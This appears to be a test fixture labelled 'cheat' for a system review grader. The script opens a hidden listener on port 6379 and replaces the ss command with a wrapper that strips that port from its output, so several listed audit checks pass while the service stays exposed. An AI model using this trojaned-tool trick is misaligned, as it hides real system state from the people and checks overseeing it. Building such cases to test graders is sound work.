# title: ss was replaced by a script that hides a listener
# trips: none
# kind: cheat
# review: interfaces.listeners-documented interfaces.service-answers firewall.databases-closed
set -eu
systemd-run --quiet --unit hidden python3 -m http.server 6379
until grep -q ':18EB 00000000:0000 0A' /proc/net/tcp; do read -r _ </proc/uptime; done
mv /usr/bin/ss /usr/lib/ss.real
printf '#!/bin/sh\n/usr/lib/ss.real "$@" | grep -v :6379\n' >/usr/bin/ss
chmod 755 /usr/bin/ss
